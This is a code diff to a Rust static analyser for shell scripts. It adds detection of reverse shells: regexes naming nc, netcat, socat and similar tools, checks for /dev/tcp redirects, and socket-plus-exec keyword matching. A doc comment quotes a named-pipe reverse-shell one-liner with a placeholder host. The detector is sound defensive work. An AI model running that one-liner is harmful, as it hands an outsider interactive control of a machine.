@@ -4,6 +4,9 @@
 //! decoded strings. Nothing is expanded that would need running anything.
 
 use std::collections::HashMap;
+use std::sync::LazyLock;
+
+use regex::Regex;
 
 use tree_sitter::Node;
 
@@ -115,9 +118,11 @@ impl<'s> Shell<'s> {
             "pipeline" => {
                 let mut data = stdin;
                 let mut c = node.walk();
-                for child in node.named_children(&mut c) {
-                    data = self.stmt(child, data, world);
+                let parts: Vec<Node<'_>> = node.named_children(&mut c).collect();
+                for child in &parts {
+                    data = self.stmt(*child, data, world);
                 }
+                self.shell_piped_to_network(node, &parts);
                 data
             }
             "redirected_statement" => self.redirected(node, stdin, world),
@@ -130,6 +135,30 @@ impl<'s> Shell<'s> {
                 }
                 last
             }
+        }
+    }
+
+    /// `cat /tmp/f | /bin/sh -i 2>&1 | nc host port > /tmp/f`: a shell whose input and output
+    /// are a network connection.
+    fn shell_piped_to_network(&mut self, node: Node<'_>, parts: &[Node<'_>]) {
+        static SHELL: LazyLock<Regex> = LazyLock::new(|| {
+            Regex::new(r"(^|[\s|/])(sh|bash|zsh|dash|ash)(\s+-i\b|\s*(2>&1)?\s*(\||$))")
+                .expect("regex")
+        });
+        static NET: LazyLock<Regex> = LazyLock::new(|| {
+            Regex::new(r"(^|[\s|/])(nc|ncat|netcat|telnet|socat|openssl)\s").expect("regex")
+        });
+        if parts.len() < 2 {
+            return;
+        }
+        let text = self.text(node);
+        if SHELL.is_match(text) && NET.is_match(text) {
+            self.out.act(
+                self.span(node),
+                Act::ShellOverSocket {
+                    how: "a shell's input and output are piped through a network tool".into(),
+                },
+            );
         }
     }
 
@@ -153,11 +182,30 @@ impl<'s> Shell<'s> {
         for r in node.children_by_field_name("redirect", &mut c) {
             match r.kind() {
                 "file_redirect" => {
-                    let op = r.child(0).map(|o| self.text(o)).unwrap_or("");
+                    // the operator, after an optional descriptor number (`5<>`, `2>`)
+                    let op = {
+                        let mut c = r.walk();
+                        let found = r
+                            .children(&mut c)
+                            .find(|o| !o.is_named())
+                            .map(|o| self.text(o))
+                            .unwrap_or("");
+                        found
+                    };
                     let Some(dest) = r.child_by_field_name("destination") else {
                         continue;
                     };
                     let path = self.eval(dest, world);
+                    let p = path.shown();
+                    if p.starts_with("/dev/tcp/") || p.starts_with("/dev/udp/") {
+                        self.out.act(
+                            self.span(r),
+                            Act::ShellOverSocket {
+                                how: format!("redirects to {p}"),
+                            },
+                        );
+                        continue;
+                    }
                     if op.starts_with('<') {
                         input = world.file_val(path.shown());
                     } else if op.starts_with('>') || op == "&>" || op == "&>>" {
@@ -795,7 +843,22 @@ pub(crate) fn exec(
                 super::script::analyse_nested(lang, text, span, world)
             }
             super::Lang::PowerShell => super::powershell::analyse_command(text, span, world),
-            super::Lang::Other => Found::default(),
+            super::Lang::Other => {
+                let mut f = Found::default();
+                let l = text.to_ascii_lowercase();
+                if l.contains("socket")
+                    && (l.contains("exec") || l.contains("system") || l.contains("spawn"))
+                    && (l.contains("/bin/sh") || l.contains("/bin/bash") || l.contains("cmd.exe"))
+                {
+                    f.act(
+                        span,
+                        Act::ShellOverSocket {
+                            how: "inline code connects a socket and runs a shell on it".into(),
+                        },
+                    );
+                }
+                f
+            }
         };
         out.extend(nested);
     }
